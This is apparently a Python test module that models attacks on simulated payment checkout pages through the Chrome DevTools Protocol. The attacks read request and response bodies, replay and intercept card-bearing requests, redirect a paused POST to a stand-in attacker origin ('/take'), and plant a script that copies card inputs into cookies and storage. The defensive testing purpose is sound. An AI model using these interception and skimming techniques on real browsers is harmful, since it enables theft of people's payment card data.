"""What the network shows: events, bodies, interception, and answers that tell back what was sent."""

import base64
import json

from attacks import attack
from support.cdp import CdpError


def events(a, method):
    a.browser.targets()
    return [e for e in a.browser.events if e["method"] == method]


@attack("xhr_form", "payment_element", "hosted_checkout")
def request_will_be_sent(a):
    """Network.requestWillBeSent and its ExtraInfo, of the page and of each frame."""
    a.open()
    for session in [a.page.session, *a.frames()]:
        a.ask(session, "Network.enable", maxPostDataSize=65536)
    a.fill()
    a.pay()


@attack("xhr_form", "payment_element", "multipart")
def get_request_post_data(a):
    """Network.getRequestPostData of every request that was seen."""
    a.open()
    sessions = [a.page.session, *a.frames()]
    for session in sessions:
        a.ask(session, "Network.enable", maxPostDataSize=0)
    a.browser.events.clear()
    a.fill()
    a.pay()
    for event in events(a, "Network.requestWillBeSent"):
        if event["params"]["request"].get("hasPostData"):
            for session in sessions:
                a.ask(session, "Network.getRequestPostData", requestId=event["params"]["requestId"])


@attack("xhr_form", "payment_element")
def replayed_request(a):
    """Network.replayXHR sends the card again, to a processor that now tells it back."""
    a.open()
    sessions = [a.page.session, *a.frames()]
    for session in sessions:
        a.ask(session, "Network.enable")
    a.browser.events.clear()
    a.fill()
    a.pay()
    a.sites.behave[a.site.psp] = "echo"
    for event in events(a, "Network.requestWillBeSent"):
        if event["params"]["request"]["method"] == "POST":
            for session in sessions:
                a.ask(session, "Network.replayXHR", requestId=event["params"]["requestId"])
    a.look("new Promise(r => setTimeout(r, 200))")
    for event in events(a, "Network.responseReceived"):
        for session in sessions:
            a.ask(session, "Network.getResponseBody", requestId=event["params"]["requestId"])


def intercept(a, enable):
    """Enables interception with `enable`, before or after the fill; tells every paused request and lets it go on."""
    def serve():
        for event in events(a, "Fetch.requestPaused") + events(a, "Network.requestIntercepted"):
            a.browser.events.remove(event)
            kind = "Fetch.continueRequest" if event["method"].startswith("Fetch") else "Network.continueInterceptedRequest"
            key = "requestId" if kind.startswith("Fetch") else "interceptionId"
            try:
                a.browser.call(kind, {key: event["params"][key]}, event.get("sessionId"))
            except CdpError as error:
                a.refusals.append(str(error)[:60])
    return serve


def paid_with(a, serve):
    """Pay while paused requests are served."""
    import time
    try:
        a.checkout.press_pay(a.page)
    except CdpError as error:
        a.refusals.append(str(error)[:60])
    if not a.answer or "refused" in a.answer:
        return
    end = time.monotonic() + 5
    while time.monotonic() < end and not a.sites.arrivals(a.site, a.page.since) and not a.checkout.ended(a.page):
        serve()
        time.sleep(0.02)
    serve()


ALL_STAGES = [{"urlPattern": "*", "requestStage": "Request"}]


@attack("xhr_form", "payment_element")
def fetch_enabled_before(a):
    """Fetch.enable on page and frames before the fill: paused requests show their bodies."""
    a.open()
    serve = intercept(a, None)
    for session in [a.page.session, *a.frames()]:
        a.ask(session, "Fetch.enable", patterns=ALL_STAGES)
    a.fill()
    paid_with(a, serve)


@attack("xhr_form", "payment_element")
def fetch_enabled_after(a):
    """The same after the fill, when the purchase may already wait for its request."""
    a.open()
    serve = intercept(a, None)
    a.fill()
    for session in [a.page.session, *a.frames()]:
        a.ask(session, "Fetch.enable", patterns=ALL_STAGES)
    paid_with(a, serve)


@attack("xhr_form", "payment_element", control=False)
def fetch_of_the_whole_browser(a):
    """Fetch.enable without a session."""
    a.open()
    serve = intercept(a, None)
    try:
        a.browser.call("Fetch.enable", {"patterns": ALL_STAGES})
    except CdpError as error:
        a.refusals.append(str(error)[:60])
    a.fill()
    paid_with(a, serve)
    try:
        a.browser.call("Fetch.disable")
    except CdpError:
        pass


@attack("xhr_form", "payment_element")
def fetch_by_another_client(a):
    """A second client attaches to the same page and intercepts there."""
    other = a.client()
    a.open()
    session = other.attach(a.page.target_id)
    a.ask(session, "Fetch.enable", patterns=ALL_STAGES)
    a.fill()

    def serve():
        other.targets()
        for event in [e for e in other.events if e["method"] == "Fetch.requestPaused"]:
            other.events.remove(event)
            a.ask(session, "Fetch.continueRequest", requestId=event["params"]["requestId"])
    paid_with(a, serve)


@attack("xhr_form", "payment_element", control=False)
def old_interception(a):
    """Network.setRequestInterception, the older way."""
    a.open()
    serve = intercept(a, None)
    for session in [a.page.session, *a.frames()]:
        a.ask(session, "Network.enable")
        a.ask(session, "Network.setRequestInterception", patterns=[{"urlPattern": "*"}])
    a.fill()
    paid_with(a, serve)


@attack("xhr_form", control=False)
def redirected_by_fetch(a):
    """A paused request is continued to another origin, with its body."""
    a.open()
    session = a.page.session
    a.ask(session, "Fetch.enable", patterns=ALL_STAGES)
    a.fill()

    def serve():
        for event in events(a, "Fetch.requestPaused"):
            a.browser.events.remove(event)
            more = {"url": a.evil + "/take"} if event["params"]["request"]["method"] == "POST" else {}
            a.ask(session, "Fetch.continueRequest", requestId=event["params"]["requestId"], **more)
    paid_with(a, serve)


def told_back(how):
    def run(a):
        a.sites.behave[a.site.psp] = how
        a.open()
        sessions = [a.page.session, *a.frames()]
        for session in sessions:
            a.ask(session, "Network.enable")
        a.browser.events.clear()
        a.fill()
        a.pay()
        a.look("new Promise(r => setTimeout(r, 150))")
        a.look("JSON.stringify(window.outcome || '') + document.body.innerText")
        for event in events(a, "Network.responseReceived"):
            for session in sessions:
                a.ask(session, "Network.getResponseBody", requestId=event["params"]["requestId"])
    return run


for how, name, text in (("echo", "response_echo", "The processor's answer holds what was sent; the page shows it."),
                        ("quote", "error_quote", "The processor's error text quotes the number."),
                        ("metadata", "metadata_base64", "The answer holds the body in base64."),
                        ("grouped", "grouped_echo", "The answer holds the number in groups with dashes."),
                        ("header", "header_echo", "A header of the answer holds the body, percent-encoded.")):
    one = told_back(how)
    one.__name__, one.__doc__ = name, text
    attack("xhr_form", "payment_element")(one)


def redirected(how):
    def run(a):
        a.sites.behave[a.site.psp] = how
        a.sites.pages["evil", "/take"] = (200, "application/json", b'{"id": "tok_evil"}')
        a.undo.append(lambda: a.sites.pages.pop(("evil", "/take"), None))
        a.open()
        a.fill()
        a.pay()
        a.look("new Promise(r => setTimeout(r, 200))")
    return run


for how, name, text in (("redirect", "redirect_307", "The processor answers 307: the body would be sent on to another origin."),
                        ("redirect-302", "redirect_302", "The processor answers 302 to an address with the body in it.")):
    one = redirected(how)
    one.__name__, one.__doc__ = name, text
    attack("js_token" if how == "redirect" else "xhr_form", "payment_element")(one)


@attack("xhr_form")
def load_network_resource(a):
    """Network.loadNetworkResource and resource content of what the processor answered."""
    a.sites.behave[a.site.psp] = "echo"
    a.open()
    a.ask(a.page.session, "Page.enable")
    a.fill()
    a.pay()
    tree = a.ask(a.page.session, "Page.getResourceTree")
    for resource in (tree or {}).get("frameTree", {}).get("resources", []):
        a.ask(a.page.session, "Page.getResourceContent", frameId=tree["frameTree"]["frame"]["id"], url=resource["url"])
    a.ask(a.page.session, "Network.loadNetworkResource", frameId=a.page.target_id, url=a.sites.origin("direct") + "/tokens",
          options={"disableCache": False, "includeCredentials": True})
    a.look("JSON.stringify(window.outcome || '')")


@attack("xhr_form", "payment_element")
def storage_of_the_page(a):
    """What the page's scripts put into storage, cookies and caches, read with the protocol's own methods."""
    a.open(plant="setInterval(() => { for (const i of document.querySelectorAll('input')) if (i.value.length > 12) { document.cookie = 'v=' + encodeURIComponent(i.value); sessionStorage.v = i.value; } }, 20);")
    a.fill()
    a.look("new Promise(r => setTimeout(r, 80))")
    a.ask(a.page.session, "Network.getCookies")
    a.ask(a.page.session, "DOMStorage.getDOMStorageItems", storageId={"securityOrigin": a.sites.origin("shop"), "isLocalStorage": False})
    a.pay()
    a.look("document.cookie = 'v=; max-age=0'")
